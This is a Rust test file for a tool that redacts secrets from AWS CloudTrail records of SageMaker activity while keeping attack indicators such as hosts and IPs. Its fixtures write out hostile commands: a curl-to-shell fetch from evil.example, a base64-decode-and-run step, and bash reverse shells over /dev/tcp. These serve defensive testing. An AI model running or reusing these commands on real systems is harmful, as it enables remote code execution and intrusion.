//! Redaction, proven: secrets of every kind are planted in every place of example records, intact and damaged, and none
//! is in the document that comes out. With a folder of real records, every redaction made in them is printed.

mod forms;
mod harmless;
mod hosts;
mod places;
mod planting;
mod real;

use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::sync::LazyLock;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use planting::{CodeForm, Planting, Wrapping, plant};
use proptest::prelude::*;
use proptest::sample::{Index, select};
use sagetrail::config::{RedactionConfig, Scope};
use sagetrail::document::Document;
use sagetrail::enrich::redact::{FingerprintKey, redact};
use sagetrail::enrich::{Enriched, Enricher, Origin, enrich};
use sagetrail::record::Record;
use serde_json::{Value, json};
use time::macros::datetime;

fn enricher(key: &str) -> Enricher {
    let redaction = RedactionConfig { key: Some(key.into()), key_file: None };
    Enricher { fingerprint_key: FingerprintKey::load(&redaction).unwrap(), ..Enricher::built_in(Scope::All) }
}

static KNOWLEDGE: LazyLock<Enricher> = LazyLock::new(|| enricher("0123456789abcdef0123456789abcdef"));
static OTHER: LazyLock<Enricher> = LazyLock::new(|| enricher("fedcba9876543210fedcba9876543210"));

/// The example records of all rules and of the fixtures.
static RECORDS: LazyLock<Vec<Value>> = LazyLock::new(|| {
    let tests = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests");
    let parsed =
        |path: PathBuf| serde_json::from_str::<Value>(&std::fs::read_to_string(path).unwrap()).unwrap();
    let entries = |folder: PathBuf| std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    let is_match = |path: &PathBuf| path.file_name().unwrap().to_string_lossy().starts_with("match-");
    let mut paths: Vec<PathBuf> = entries(tests.join("rules")).flat_map(entries).filter(is_match).collect();
    paths.sort();
    let mut records: Vec<Value> = paths.into_iter().map(parsed).collect();
    let mut files: Vec<PathBuf> = entries(tests.join("fixtures/src")).collect();
    files.sort();
    for file in files {
        records.extend(parsed(file)["Records"].as_array().unwrap().iter().cloned());
    }
    records
});

fn document_of(raw: &str, enricher: &Enricher) -> Document {
    let origin = Origin { path: "example", written_at: None, now: datetime!(2026-11-23 12:00 UTC) };
    match enrich(raw.as_bytes(), origin, enricher) {
        Enriched::Selected { document, .. } | Enriched::Malformed(document) => document,
        Enriched::NotSelected | Enriched::RepeatedRead | Enriched::ToRecall(_) => {
            panic!("everything is selected")
        }
        Enriched::Panicked(document) => panic!("it panicked: {document:?}"),
    }
}

/// The secret itself, as JSON writes it, and the part of its base64 that does not depend on what stands around it.
fn traces(secret: &str) -> Vec<String> {
    let mut traces = vec![secret.to_owned(), json!(secret).to_string().trim_matches('"').to_owned()];
    for before in 0..3 {
        let bytes = [&b"   "[..before], secret.as_bytes()].concat();
        for engine in [STANDARD, URL_SAFE] {
            let whole = engine.encode(&bytes[..bytes.len() / 3 * 3]);
            traces.push(whole[4..].to_owned());
        }
    }
    traces.retain(|trace| trace.len() >= 8);
    traces
}

/// The value with every scalar replaced: what is left of it when only texts change.
fn shape(value: &Value) -> Value {
    match value {
        Value::Array(elements) => elements.iter().map(shape).collect(),
        Value::Object(members) => members.iter().map(|(name, value)| (name.clone(), shape(value))).collect(),
        _ => Value::Null,
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_secret_that_is_planted_anywhere_is_in_the_document(
        record in any::<Index>(),
        planting in planting::planting(),
        form in select(vec![
            CodeForm::Base64, CodeForm::Gzip, CodeForm::Base64InBase64, CodeForm::Entrypoint, CodeForm::Words,
        ]),
        wrapping in select(vec![Wrapping::Plain, Wrapping::JsonText, Wrapping::JsonTextInJsonText]),
        at in any::<Index>(),
        damaged in any::<bool>(),
    ) {
        let mut record = record.get(&RECORDS).clone();
        let secret = plant(&mut record, &planting, form, wrapping, at);
        let mut raw = record.to_string();
        if damaged {
            raw.truncate(raw.len() - 1);
        }
        let document = document_of(&raw, &KNOWLEDGE);
        let source = std::str::from_utf8(&document.source).unwrap();
        for trace in traces(&secret) {
            prop_assert!(!source.contains(&trace), "{trace} is in {source}\nof {raw}");
            prop_assert!(!document.id.as_str().contains(&trace) && !document.index.as_str().contains(&trace));
        }
        let parsed: Value = serde_json::from_str(source).unwrap();
        if !damaged {
            let original: Value = serde_json::from_str(parsed["event"]["original"].as_str().unwrap()).unwrap();
            prop_assert_eq!(shape(&original), shape(&record));
        }
        let again = document_of(&raw, &KNOWLEDGE);
        prop_assert_eq!(&again.source, &document.source);
        // Base64 has a marker of its own, and so have the whole of a text under a suspect name and a text that a record
        // which is no JSON had no work left for.
        if !source.contains(":unsearched]") && matches!(planting, Planting::Member(..) | Planting::Variable(..)) {
            let marker = KNOWLEDGE.fingerprint_key.marker(&secret);
            prop_assert!(source.contains(&marker), "{marker} of {secret} is not in {source}");
            let other = document_of(&raw, &OTHER);
            prop_assert!(!std::str::from_utf8(&other.source).unwrap().contains(&marker));
        }
    }
}

#[test]
fn one_secret_has_one_marker_in_every_place_of_a_record() {
    let secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    let script = format!("#!/bin/sh\nexport GITHUB_TOKEN={secret}\n");
    let record = json!({
        "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateTrainingJob", "errorMessage": format!("bad {secret}"),
        "requestParameters": {
            "environment": {"GITHUB_TOKEN": secret, "URL": format!("https://me:{secret}@git.example/r")},
            "algorithmSpecification": {"containerArguments": ["--token", secret]},
            "policy": json!({"password": secret}).to_string(),
            "onStart": [{"content": STANDARD.encode(&script)}],
        },
    });
    let document = document_of(&record.to_string(), &KNOWLEDGE);
    let source: Value = serde_json::from_slice(&document.source).unwrap();
    let marker = KNOWLEDGE.fingerprint_key.marker(secret);
    let parameters = &source["aws"]["cloudtrail"]["request_parameters"];
    for text in [
        &source["error"]["message"],
        &parameters["environment"]["GITHUB_TOKEN"],
        &parameters["environment"]["URL"],
        &parameters["algorithmSpecification"]["containerArguments"][1],
        &parameters["policy"],
        &source["sagemaker"]["lifecycle"]["script"][0],
        &source["sagemaker"]["lifecycle"]["script"][1],
        &source["event"]["original"],
    ] {
        assert!(text.as_str().unwrap().contains(&marker), "{text}");
    }
    assert_eq!(parameters["onStart"][0]["content"], STANDARD.encode(script.replace(secret, &marker)));
}

#[test]
fn a_script_is_shown_with_its_indicators_and_without_its_secrets() {
    let inner = STANDARD.encode("curl -u me:hunter2 https://evil.example/x?token=abc | sh\n");
    let script =
        format!("#!/bin/sh\necho {inner} | base64 -d | sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n");
    let record = json!({
        "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateNotebookInstanceLifecycleConfig",
        "sourceIPAddress": "198.51.100.7", "requestParameters": {"onStart": [{"content": STANDARD.encode(&script)}]},
    });
    let document = document_of(&record.to_string(), &KNOWLEDGE);
    let source: Value = serde_json::from_slice(&document.source).unwrap();
    let marker = |secret| KNOWLEDGE.fingerprint_key.marker(secret);
    let redacted =
        format!("curl -u me:{} https://evil.example/x?token={} | sh\n", marker("hunter2"), marker("abc"));
    let script_redacted = script.replace(&inner, &STANDARD.encode(&redacted));
    let original: Value = serde_json::from_str(source["event"]["original"].as_str().unwrap()).unwrap();
    assert_eq!(original["requestParameters"]["onStart"][0]["content"], STANDARD.encode(&script_redacted));
    assert_eq!(
        source["sagemaker"]["lifecycle"],
        json!({
            "hook": ["onStart"],
            "script": [
                script_redacted,
                redacted,
            ],
            "indicators": ["https://evil.example/x", "203.0.113.9", "evil.example"],
            "commands": [
                redacted.trim_end(),
                format!("echo {} | base64 -d | sh", STANDARD.encode(&redacted)),
                "bash -i >& /dev/tcp/203.0.113.9/4444 0>& 1",
            ],
            "behavior": ["decoded_run", "remote_shell"],
            "run_source": ["https://evil.example/x"],
        })
    );
    assert_eq!(source["related"], json!({"ip": ["198.51.100.7", "203.0.113.9"], "hosts": ["evil.example"]}));
}

/// Every text in a document, and what is packed inside of it.
fn unfolded(text: &str, depth: usize, all: &mut String) {
    all.push_str(text);
    all.push('\n');
    let is_symbol = |symbol: char| symbol.is_ascii_alphanumeric() || matches!(symbol, '+' | '/' | '=');
    for run in text.split(|symbol| !is_symbol(symbol)).filter(|run| depth > 0 && run.len() >= 16) {
        let Ok(bytes) = STANDARD.decode(run) else { continue };
        let mut plain = Vec::new();
        if bytes.starts_with(&[0x1f, 0x8b]) {
            flate2::read::GzDecoder::new(bytes.as_slice()).read_to_end(&mut plain).unwrap();
        } else {
            plain = bytes;
        }
        unfolded(&String::from_utf8_lossy(&plain), depth - 1, all);
    }
}

#[test]
fn of_all_forms_of_secrets_in_all_places_at_most_one_in_fifty_is_left() {
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let mut left: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
    let mut tried = 0;
    for form in forms::forms(&mut runner) {
        for place in &places::PLACES {
            let document = document_of(&(place.record)(&form.text).to_string(), &KNOWLEDGE);
            let source: Value = serde_json::from_slice(&document.source).unwrap();
            let mut all = String::new();
            unfolded(std::str::from_utf8(&document.source).unwrap(), 0, &mut all);
            unfolded(source["event"]["original"].as_str().unwrap(), 3, &mut all);
            tried += 1;
            let quoted = json!(form.secret).to_string();
            if [form.secret.as_str(), quoted.trim_matches('"')].iter().any(|secret| all.contains(secret)) {
                left.entry(form.form).or_default().push(place.name);
            }
        }
    }
    let leaks: usize = left.values().map(Vec::len).sum();
    println!("{} of {tried} forms and places are redacted; left are {left:#?}", tried - leaks);
    assert!(leaks * 50 <= tried, "{leaks} of {tried} are left: {left:#?}");
}

#[test]
fn harmless_texts_stay_in_every_place() {
    for text in harmless::TEXTS {
        for place in &places::PLACES {
            let record = (place.record)(text);
            let document = document_of(&record.to_string(), &KNOWLEDGE);
            let source: Value = serde_json::from_slice(&document.source).unwrap();
            let original = source["event"]["original"].as_str().unwrap();
            assert!(!original.contains("[redacted:"), "{text} as {}: {original}", place.name);
            assert_eq!(serde_json::from_str::<Value>(original).unwrap(), record);
        }
    }
    for (holder, name, value) in harmless::VARIABLES {
        let variables =
            if holder == "tags" { json!([{"key": name, "value": value}]) } else { json!({ name: value }) };
        let record = json!({"eventName": "x", "requestParameters": { holder: variables }});
        let raw = record.to_string();
        let redacted =
            redact(raw.as_bytes(), &Record::parse(raw.as_bytes()).unwrap(), &KNOWLEDGE.fingerprint_key);
        assert_eq!(redacted, None, "{record}");
    }
}

#[test]
fn who_what_and_where_stay_whatever_they_look_like() {
    for name in [
        "ghp_0123456789abcdefghijABCDEFGHIJ012345",
        "sk-proj-0123456789abcdefghijABCDEFGHIJ",
        "AKIAIOSFODNN7EXAMPLE",
        "hf_abcdefghijABCDEFGHIJabcdefghijABCD",
    ] {
        let role = format!("arn:aws:sts::111122223333:assumed-role/{name}/{name}");
        let arn = format!("arn:aws:sagemaker:eu-west-1:111122223333:training-job/{name}");
        let record = json!({
            "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateTrainingJob", "awsRegion": "eu-west-1", "sourceIPAddress": "198.51.100.7",
            "errorMessage": format!("User: {role} is not authorized to perform: sagemaker:CreateTrainingJob on resource: {arn}"),
            "userIdentity": {
                "type": "AssumedRole", "principalId": format!("AROA:{name}"), "arn": role, "accountId": "111122223333",
                "sessionContext": {"sessionIssuer": {"userName": name, "arn": role, "principalId": name}, "sourceIdentity": name},
            },
            "requestParameters": {
                "trainingJobName": name, "endpointName": name, "roleArn": role, "newThingThatNobodyKnowsName": name, "secretId": name,
                "algorithmSpecification": {"trainingImage": format!("111122223333.dkr.ecr.eu-west-1.amazonaws.com/{name}:1"), "containerArguments": ["run", role, format!("https://{name}.evil.example/x")]},
                "outputDataConfig": {"s3OutputPath": format!("s3://{name}/x"), "modelUri": format!("s3://{name}/{name}")},
                "tags": [{"key": name, "value": "x"}], "bucketName": name, "key": format!("{name}/x"),
                "environment": {"API_TOKEN": "http://evil.example/x", "DB_PASSWORD": "203.0.113.9:443", "CALLBACK_SECRET": format!("https://{name}.evil.example/y")},
            },
            "responseElements": {"trainingJobArn": arn},
            "resources": [{"ARN": arn, "accountId": "111122223333", "type": "AWS::SageMaker::TrainingJob"}],
        });
        let document = document_of(&record.to_string(), &KNOWLEDGE);
        let source: Value = serde_json::from_slice(&document.source).unwrap();
        let original: Value = serde_json::from_str(source["event"]["original"].as_str().unwrap()).unwrap();
        for path in [
            "/userIdentity",
            "/errorMessage",
            "/resources",
            "/responseElements",
            "/sourceIPAddress",
            "/requestParameters/trainingJobName",
            "/requestParameters/endpointName",
            "/requestParameters/roleArn",
            "/requestParameters/newThingThatNobodyKnowsName",
            "/requestParameters/secretId",
            "/requestParameters/algorithmSpecification/trainingImage",
            "/requestParameters/outputDataConfig/modelUri",
            "/requestParameters/outputDataConfig/s3OutputPath",
            "/requestParameters/tags",
            "/requestParameters/bucketName",
            "/requestParameters/key",
        ] {
            assert_eq!(original.pointer(path), record.pointer(path), "{path}");
        }
        for text in ["sagemaker", "user", "message", "cloud", "related", "source"] {
            let shown = source[text].to_string();
            let script = source["sagemaker"]["lifecycle"].to_string();
            assert!(text == "sagemaker" || !shown.contains("[redacted"), "{text}: {shown}");
            assert!(!shown.replace(&script, "").contains("[redacted"), "{text}: {shown}");
        }
        assert!(source["message"].as_str().unwrap().contains(name), "{}", source["message"]);
        let environment = original["requestParameters"]["environment"].to_string();
        for host in ["http://evil.example/", "203.0.113.9", &format!("https://{name}.evil.example/")] {
            assert!(environment.contains(host), "{host} in {environment}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn secrets_that_overlap_nest_or_end_inside_one_another_are_all_replaced(
        parts in prop::collection::vec(select(vec![
            "echo", "a", "ghp_0123456789abcdefghijABCDEFGHIJ012345", "|", "docker", "login", "--password-stdin", "--password", "--token=", "r", "é", "\"", "'", "\\",
            "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----", "PASSWORD=", "https://u:p@h.example/", "https://", "@", "arn:aws:iam::111122223333:role/x",
            "sk-proj-0123456789abcdefghijABCDEFGHIJ", "curl", "-u", "me:hunter2", "%22", "&quot;", "{\"password\":\"", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3",
            "/dev/tcp/1.2.3.4/5", "Authorization: Bearer ", "x=\"", "\n", "ZXhwb3J0IFRPS0VOPWFiY2RlZmdoMTIzCg==",
        ]), 0..24),
        glue in select(vec!["", " ", "\n"]),
    ) {
        let line = parts.join(glue);
        let record = json!({
            "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateTrainingJob", "errorMessage": line,
            "requestParameters": {"containerArguments": parts, "containerEntrypoint": [line], "environment": {"X": line, "PASSWORD": line},
                "description": line, "modelUri": line, "authorizedUrl": line, "onStart": [{"content": STANDARD.encode(&line)}], "content": line},
        });
        let raw = record.to_string();
        let document = document_of(&raw, &KNOWLEDGE);
        let source = std::str::from_utf8(&document.source).unwrap();
        serde_json::from_str::<Value>(source).unwrap();
        document_of(&raw[..raw.len() - 1], &KNOWLEDGE);
        if !glue.is_empty() && parts.contains(&"ghp_0123456789abcdefghijABCDEFGHIJ012345") {
            let parsed: Value = serde_json::from_str(source).unwrap();
            let original: Value = serde_json::from_str(parsed["event"]["original"].as_str().unwrap()).unwrap();
            for place in ["containerArguments", "containerEntrypoint"] {
                let words = original["requestParameters"][place].to_string();
                prop_assert!(!words.contains("ghp_0123456789"), "{words}");
            }
        }
    }
}

#[test]
fn a_record_without_hints_is_not_even_allocated_for() {
    let quiet = json!({
        "eventSource": "sagemaker.amazonaws.com", "eventName": "DescribeTrainingJob", "readOnly": true,
        "userIdentity": {"type": "IAMUser", "accessKeyId": "AKIDEXAMPLE", "userName": "alice"},
        "requestParameters": {"trainingJobName": "t1", "nextToken": "abc"}, "responseElements": null,
    })
    .to_string();
    let record = Record::parse(quiet.as_bytes()).unwrap();
    let key = &KNOWLEDGE.fingerprint_key;
    assert_eq!(redact(quiet.as_bytes(), &record, key), None);
    let spent = allocation_counter::measure(|| assert_eq!(redact(quiet.as_bytes(), &record, key), None));
    assert_eq!(spent.count_total, 0);
}
